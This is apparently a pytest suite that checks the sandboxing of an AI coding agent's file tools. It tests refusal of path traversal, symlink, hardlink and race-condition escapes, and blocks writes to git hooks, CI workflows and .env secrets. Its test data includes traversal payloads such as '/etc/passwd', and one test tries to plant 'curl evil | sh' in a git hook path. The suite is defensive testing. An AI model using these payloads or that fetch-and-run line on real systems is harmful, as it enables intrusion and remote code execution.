"""The coding tools stay inside their workspace (RELIABILITY.md H1, H2, H3).

Every test has a canary tree beside the workspace, hashed before and after
(INV-5): names, contents and modes. The tools are called through the
registry, as the loop calls them.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from doubles import call

from looplet import ToolResult
from looplet.workspace import (
    OutsideWorkspace,
    Workspace,
    WorkspaceError,
    check_relative,
    coding_tools,
)

PAYLOADS = json.loads((Path(__file__).parent / "data" / "path_payloads.json").read_text())["payloads"]
CANARY_TEXT = "CANARY-7f3a9c-outside-content"
#: The links the payload file names, each leading out of the workspace.
LINK_PAYLOADS = {p for p in PAYLOADS if "link" in p or p.startswith("dangling")}
PATH_TOOLS = ("read", "write", "edit", "multi_edit", "list_dir", "grep")


def tree_digest(root: Path) -> str:
    """Names, kinds, modes and contents of everything under `root` (links not followed)."""
    digest = hashlib.sha256()
    for folder, dirs, files in os.walk(root):
        dirs.sort()
        for name in sorted(dirs + files):
            path = Path(folder, name)
            info = path.lstat()
            digest.update(f"{path.relative_to(root)}\0{info.st_mode}\0{info.st_nlink}\0".encode())
            if path.is_symlink():
                digest.update(os.readlink(path).encode())
            elif path.is_file():
                digest.update(path.read_bytes())
    return digest.hexdigest()


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    root = tmp_path / "canary"
    (root / "deep").mkdir(parents=True)
    (root / "secret.txt").write_text(CANARY_TEXT + "\n")
    (root / "deep" / "inner.txt").write_text(CANARY_TEXT + " deep\n")
    return root


@pytest.fixture
def workspace(tmp_path: Path, canary: Path) -> Workspace:
    root = tmp_path / "ws"
    (root / "sub").mkdir(parents=True)
    (root / "notes.txt").write_text("inside CANARY word\n")
    (root / "link_out").symlink_to("../canary")
    (root / "file_link").symlink_to("../canary/secret.txt")
    (root / "dangling_out").symlink_to("../canary/new.txt")
    (root / "abs_link").symlink_to(canary)
    (root / "sub" / "up_link").symlink_to("../../canary")
    return Workspace(root, sandbox="none")


def shown(result: ToolResult) -> str:
    """Everything a result tells the model, except the echo of its own arguments."""
    return json.dumps([result.data, result.error, result.warnings, result.metadata], ensure_ascii=False)


def tool_calls(payload: str) -> Iterator[tuple[str, dict[str, Any]]]:
    yield "read", {"path": payload}
    yield "write", {"path": payload, "content": "pwned"}
    yield "edit", {"path": payload, "old_string": "CANARY", "new_string": "pwned"}
    yield "multi_edit", {"path": payload, "edits": [{"old_string": "CANARY", "new_string": "pwned"}]}
    yield "list_dir", {"path": payload}
    yield "grep", {"pattern": "CANARY", "path": payload}
    yield "glob", {"pattern": payload}
    yield "grep", {"pattern": "CANARY", "include": payload}


def test_the_payload_file_covers_every_kind_of_escape_the_matrix_names() -> None:
    kinds = {
        "dotdot": any(".." in p for p in PAYLOADS),
        "absolute": "/etc/passwd" in PAYLOADS,
        "home": "~root" in PAYLOADS,
        "variable": "$HOME/x" in PAYLOADS,
        "windows": "C:\\x" in PAYLOADS and "\\\\srv\\share" in PAYLOADS,
        "scheme": "file:///etc/passwd" in PAYLOADS,
        "nul": any("\0" in p for p in PAYLOADS),
        "huge": any(len(p) >= 5000 for p in PAYLOADS),
        "fullwidth": any("\uff0e" in p for p in PAYLOADS),
        "trailing": any(p.endswith((".", " ")) for p in PAYLOADS),
        "case": "../CANARY/SECRET.TXT" in PAYLOADS,
        "links": len(LINK_PAYLOADS) >= 8,
    }
    assert all(kinds.values()), kinds
    assert len(PAYLOADS) >= 75


def test_every_payload_against_every_tool_is_refused_and_nothing_outside_changes_or_shows(
    workspace: Workspace, canary: Path, tmp_path: Path
) -> None:
    tools = coding_tools(workspace)
    before = tree_digest(tmp_path / "canary"), sorted(os.listdir(tmp_path))
    inside = tree_digest(Path(workspace.root))
    tried = refused = 0
    for raw in PAYLOADS:
        payload = raw.replace("{canary}", str(canary))
        lexical = payload not in LINK_PAYLOADS
        for name, args in tool_calls(payload):
            result = call(tools, name, **args)
            tried += 1
            text = shown(result)
            assert str(canary) not in text and CANARY_TEXT not in text, (name, payload, text)
            must_refuse = lexical or (name in PATH_TOOLS and "include" not in args)
            if must_refuse:
                assert result.error and result.metadata.get("exception") == "OutsideWorkspace", (
                    name,
                    payload,
                    result.error,
                )
                refused += 1
    assert (tree_digest(tmp_path / "canary"), sorted(os.listdir(tmp_path))) == before
    assert tree_digest(Path(workspace.root)) == inside  # nothing was written inside either
    assert tried == len(PAYLOADS) * 8 and refused >= len(PAYLOADS) * 6


def test_glob_and_grep_walks_never_enter_a_link_out_of_the_workspace(workspace: Workspace) -> None:
    tools = coding_tools(workspace)
    every = call(tools, "glob", pattern="**")
    assert every.ok and "link_out" in every.data["paths"]
    assert not [p for p in every.data["paths"] if p.startswith(("link_out/", "abs_link/", "sub/up_link/"))]
    found = call(tools, "grep", pattern="CANARY")
    assert found.ok and [m["path"] for m in found.data["matches"]] == ["notes.txt"]


@pytest.mark.parametrize(
    ("path", "names"),
    [
        ("notes.txt", ("notes.txt",)),
        ("./notes.txt", ("notes.txt",)),
        ("sub//", ("sub",)),
        (".", ()),
        ("", ()),
    ],
)
def test_plain_relative_paths_are_accepted(workspace: Workspace, path: str, names: tuple[str, ...]) -> None:
    assert check_relative(path) == names
    assert workspace.locate(path).real == names


# -- H2: links ----------------------------------------------------------------------------------


def test_a_link_to_a_file_inside_is_followed_and_a_write_changes_the_target_not_the_link(
    workspace: Workspace,
) -> None:
    root = Path(workspace.root)
    (root / "alias").symlink_to("notes.txt")
    tools = coding_tools(workspace)
    assert call(tools, "read", path="alias").data["content"] == "inside CANARY word\n"
    assert call(tools, "write", path="alias", content="new\n").ok
    assert (root / "alias").is_symlink() and (root / "notes.txt").read_text() == "new\n"


def test_a_dangling_link_is_never_written_through_even_when_its_target_would_be_inside(
    workspace: Workspace, tmp_path: Path
) -> None:
    root = Path(workspace.root)
    (root / "dangling_in").symlink_to("sub/not_yet.txt")
    tools = coding_tools(workspace)
    for path in ("dangling_in", "dangling_out"):
        result = call(tools, "write", path=path, content="x")
        assert result.error and ("dangling" in result.error or "outside" in result.error)
    assert not (root / "sub" / "not_yet.txt").exists()
    assert not (tmp_path / "canary" / "new.txt").exists()


def test_a_link_loop_is_an_error_not_a_hang(workspace: Workspace) -> None:
    root = Path(workspace.root)
    (root / "loop_a").symlink_to("loop_b")
    (root / "loop_b").symlink_to("loop_a")
    tools = coding_tools(workspace)
    for name, args in [
        ("read", {"path": "loop_a"}),
        ("write", {"path": "loop_a", "content": "x"}),
        ("list_dir", {"path": "loop_a"}),
        ("write", {"path": "loop_a/f.txt", "content": "x"}),
    ]:
        result = call(tools, name, **args)
        assert result.error, (name, result)
    assert (root / "loop_a").is_symlink() and (root / "loop_b").is_symlink()


def test_a_hardlinked_file_is_refused_for_reading_and_writing(
    workspace: Workspace, canary: Path, tmp_path: Path
) -> None:
    os.link(canary / "secret.txt", Path(workspace.root) / "hard.txt")
    before = tree_digest(canary)
    tools = coding_tools(workspace)
    for name, args in [
        ("read", {"path": "hard.txt"}),
        ("write", {"path": "hard.txt", "content": "pwned"}),
        ("edit", {"path": "hard.txt", "old_string": "CANARY", "new_string": "pwned"}),
    ]:
        result = call(tools, name, **args)
        assert result.error and "hard links" in result.error, (name, result.error)
        assert CANARY_TEXT not in shown(result)
    assert tree_digest(canary) == before
    assert CANARY_TEXT not in json.dumps(call(tools, "grep", pattern="CANARY").data)


def flip(stop: threading.Event, swap: Any) -> int:
    flips = 0
    while not stop.is_set():
        swap(flips)
        flips += 1
    return flips


def race(workspace: Workspace, target: str, swap: Any, writes: int) -> tuple[int, int, int]:
    """`writes` writes to `target` while a thread keeps swapping links; (ok, refused, flips)."""
    tools = coding_tools(workspace)
    write = tools.get("write")
    assert write is not None
    stop = threading.Event()
    flips: list[int] = []
    thread = threading.Thread(target=lambda: flips.append(flip(stop, swap)))
    thread.start()
    ok = refused = 0
    try:
        for n in range(writes):
            try:
                write.fn(path=target, content=f"write {n}\n")
                ok += 1
            except (WorkspaceError, OSError):
                refused += 1
    finally:
        stop.set()
        thread.join()
    return ok, refused, flips[0]


def test_a_link_swapped_between_inside_and_outside_during_writes_never_lets_one_out(
    workspace: Workspace, canary: Path
) -> None:
    """TOCTOU (H2): the last directory of the path is a link flipped in a tight loop."""
    root = Path(workspace.root)
    (root / "real").mkdir()
    link = root / "flip"

    def swap(n: int) -> None:
        temp = root / f".flip{n % 2}"
        temp.symlink_to("real" if n % 2 else str(canary))
        os.replace(temp, link)

    swap(1)
    before = tree_digest(canary)
    ok, refused, flips = race(workspace, "flip/f.txt", swap, 10_000)
    assert tree_digest(canary) == before
    assert ok + refused == 10_000
    assert ok > 0 and refused > 0 and flips > 100, (ok, refused, flips)  # both sides of the race were hit


def test_a_real_directory_replaced_by_a_link_out_during_writes_never_lets_one_out(
    workspace: Workspace, canary: Path
) -> None:
    """TOCTOU (H2): a directory checked as real becomes a link before the open (the O_NOFOLLOW walk)."""
    root = Path(workspace.root)
    (root / "d").mkdir()

    def swap(n: int) -> None:
        d, aside = root / "d", root / "d_real"
        with contextlib.suppress(OSError):
            if aside.exists() and d.is_dir() and not d.is_symlink():
                shutil.rmtree(d)  # a write made a new "d" in the gap between two renames
            if n % 2 == 0:
                os.rename(d, aside)
                d.symlink_to(canary)
            else:
                d.unlink()
                os.rename(aside, d)

    before = tree_digest(canary)
    ok, refused, flips = race(workspace, "d/f.txt", swap, 3000)
    assert tree_digest(canary) == before
    assert ok > 0 and refused > 0 and flips > 100, (ok, refused, flips)


# -- H3: protected paths ------------------------------------------------------------------------

PROTECTED = [
    ".git/hooks/pre-commit",
    ".git/config",
    ".git/HEAD",
    ".GIT/hooks/post-checkout",
    "vendor/lib/.git/hooks/pre-commit",
    "sub/.Git/config",
    ".github/workflows/ci.yml",
    ".GitHub/Workflows/release.yml",
    ".env",
    ".env.local",
    ".envrc",
    "sub/.env",
    ".ENV",
    ".looplet/skills/x/SKILL.md",
]


@pytest.mark.parametrize("path", PROTECTED)
def test_protected_paths_are_never_written_by_any_write_tool(workspace: Workspace, path: str) -> None:
    root = Path(workspace.root)
    target = root / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("original CANARY\n")
    tools = coding_tools(workspace)
    attempts: list[tuple[str, dict[str, Any]]] = [
        ("write", {"path": path, "content": "pwned"}),
        ("edit", {"path": path, "old_string": "original", "new_string": "pwned"}),
        ("multi_edit", {"path": path, "edits": [{"old_string": "original", "new_string": "pwned"}]}),
        ("write", {"path": path + ".new", "content": "pwned"}),
    ]
    for name, args in attempts:
        result = call(tools, name, **args)
        assert result.metadata.get("exception") == "ProtectedPath", (name, path, result.error)
        assert "protected" in str(result.error)
    assert target.read_text() == "original CANARY\n"
    assert not Path(str(target) + ".new").exists()


def test_a_link_to_a_protected_directory_does_not_open_it_for_writing(workspace: Workspace) -> None:
    root = Path(workspace.root)
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / "hooks").symlink_to(".git/hooks")
    result = call(coding_tools(workspace), "write", path="hooks/pre-push", content="curl evil | sh")
    assert result.error and "protected" in result.error
    assert not (root / ".git" / "hooks" / "pre-push").exists()


def test_secret_files_are_neither_read_nor_searched(workspace: Workspace) -> None:
    root = Path(workspace.root)
    (root / ".env").write_text("API_KEY=CANARY-env-value\n")
    tools = coding_tools(workspace)
    read = call(tools, "read", path=".env")
    assert read.error and "secrets" in read.error
    found = call(tools, "grep", pattern="CANARY")
    assert "CANARY-env-value" not in json.dumps(found.data) and found.data["files_skipped"] >= 1
    assert call(tools, "read", path="notes.txt").ok  # an ordinary file is read as usual


def test_outside_errors_name_the_rule_and_never_echo_the_path(workspace: Workspace, canary: Path) -> None:
    with pytest.raises(OutsideWorkspace) as caught:
        workspace.locate(f"{canary}/secret.txt")
    assert "absolute" in str(caught.value) and str(canary) not in str(caught.value)
    with pytest.raises(OutsideWorkspace) as through_link:
        workspace.locate("link_out/secret.txt")
    assert "symbolic link" in str(through_link.value) and "canary" not in str(through_link.value)
